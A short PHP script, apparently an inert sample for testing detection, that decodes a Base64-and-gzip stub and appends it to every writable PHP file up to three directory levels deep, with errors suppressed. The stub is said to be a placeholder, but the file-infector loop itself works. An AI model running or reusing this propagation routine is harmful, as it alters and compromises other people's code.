<?php
// sweep sample (inert, obfuscated and nested): the infector's stub is packed twice
// (gzdeflate, then Base64) and added after the content of every PHP file found by glob patterns
// one directory level at a time. The stub unpacks to a placeholder comment.
$k0 = gzinflate(base64_decode('s7EvyCjg4lJQKEotSExJzkktLkhNUSjJLMkpTbGN0QcA'));
$lv = array('*', '*/*', '*/*/*');
foreach ($lv as $p) {
    foreach (glob($p . '.php') as $f_) {
        if (is_writable($f_)) {
            @file_put_contents($f_, @file_get_contents($f_) . "\n" . $k0);
        }
    }
}
